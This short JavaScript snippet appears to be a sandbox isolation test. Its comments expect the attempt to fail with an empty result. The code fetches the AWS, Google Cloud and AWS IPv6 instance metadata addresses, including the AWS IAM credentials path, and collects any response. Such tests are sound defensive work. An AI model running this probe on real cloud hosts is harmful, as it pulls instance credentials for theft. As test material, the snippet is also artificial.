// class: request without a way out
// tries: to read what answers at the address where clouds keep credentials
// ending: value {"read":[]}
// tools: []
// outbound: []

const read = [];
for (const url of ['http://169.254.169.254/latest/meta-data/iam/', 'http://metadata.google.internal/computeMetadata/v1/', 'http://[fd00:ec2::254]/']) {
  try {
    read.push(await (await fetch(url, { headers: { 'Metadata-Flavor': 'Google' } })).text());
  } catch {}
}
return { read };
